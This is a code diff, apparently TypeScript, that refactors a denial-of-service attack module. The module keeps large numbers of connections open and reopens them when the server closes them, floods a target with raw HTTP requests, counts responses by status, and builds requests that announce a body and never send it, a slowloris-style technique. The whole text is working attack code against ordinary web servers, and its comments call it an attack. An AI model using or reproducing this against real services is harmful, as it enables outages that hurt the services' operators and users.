@@ -13,15 +13,19 @@ const MAX_DIALS_PER_INTERVAL = 100;
 const REDIAL_DELAY_MS = 10;
 
 /** Address and duration of an attack, and its counters so far. */
-export type Aim = { readonly origin: string; readonly durationMs: number; readonly counters: AttackCounters };
+export type AttackParameters = {
+  readonly origin: string;
+  readonly durationMs: number;
+  readonly counters: AttackCounters;
+};
 
 /** The number of opened connections, and of first responses on them by status. */
 export type AttackCounters = { connections: number; readonly byStatus: Record<string, number> };
 
-export const noCounters = (): AttackCounters => ({ connections: 0, byStatus: {} });
+export const createCounters = (): AttackCounters => ({ connections: 0, byStatus: {} });
 
 /** The behavior of one connection of an attack. */
-export type Connection = {
+export type ConnectionScript = {
   /** The bytes that are sent first. */
   readonly first: string;
   /** A text that is sent at each interval until the end; undefined if nothing more is sent. */
@@ -31,13 +35,17 @@ export type Connection = {
 };
 
 /** Keeps `count` connections of this kind open until the end, and reopens those that the service closes. */
-export async function hold(aim: Aim, count: number, connection: Connection): Promise<void> {
+export async function holdConnections(
+  aim: AttackParameters,
+  count: number,
+  connection: ConnectionScript,
+): Promise<void> {
   const endsAt = performance.now() + aim.durationMs;
   const open = new Set<Socket>();
   while (performance.now() < endsAt) {
     const missing = Math.min(count - open.size, MAX_DIALS_PER_INTERVAL);
     for (let dialled = 0; dialled < missing; dialled += 1) {
-      const socket = dial(aim, connection);
+      const socket = openConnection(aim, connection);
       open.add(socket);
       socket.once('close', () => open.delete(socket));
     }
@@ -47,14 +55,18 @@ export async function hold(aim: Aim, count: number, connection: Connection): Pro
 }
 
 /** Sends the requests in turn until the end, each on a connection of its own, with `connections` requests at a time. */
-export async function flood(aim: Aim, connections: number, requests: readonly string[]): Promise<void> {
+export async function floodRequests(
+  aim: AttackParameters,
+  connections: number,
+  requests: readonly string[],
+): Promise<void> {
   const endsAt = performance.now() + aim.durationMs;
   let next = 0;
   const repeat = async () => {
     while (performance.now() < endsAt) {
       const first = requests[next++ % requests.length] ?? '';
       const began = performance.now();
-      const socket = dial(aim, { first });
+      const socket = openConnection(aim, { first });
       const giveUp = setTimeout(() => socket.destroy(), Math.max(0, endsAt - began));
       await new Promise((resolve) => socket.once('close', resolve));
       clearTimeout(giveUp);
@@ -64,7 +76,10 @@ export async function flood(aim: Aim, connections: number, requests: readonly st
   await Promise.all(Array.from({ length: connections }, repeat));
 }
 
-function dial({ origin, counters }: Aim, { first, after, unread = false }: Connection): Socket {
+function openConnection(
+  { origin, counters }: AttackParameters,
+  { first, after, unread = false }: ConnectionScript,
+): Socket {
   const { hostname, port } = new URL(origin);
   const socket = connect(Number(port), hostname);
   socket.once('connect', () => {
@@ -86,7 +101,7 @@ function dial({ origin, counters }: Aim, { first, after, unread = false }: Conne
 }
 
 /** Returns a raw HTTP request. */
-export function request(
+export function rawRequest(
   method: string,
   path: string,
   headers: Readonly<Record<string, string>> = {},
@@ -98,11 +113,11 @@ export function request(
 }
 
 /** Returns a raw HTTP request whose body is announced and never sent. */
-export function withoutBody(
+export function requestWithoutBody(
   method: string,
   path: string,
   headers: Readonly<Record<string, string>>,
   bytes: number,
 ): string {
-  return request(method, path, { ...headers, 'content-length': String(bytes) });
+  return rawRequest(method, path, { ...headers, 'content-length': String(bytes) });
 }
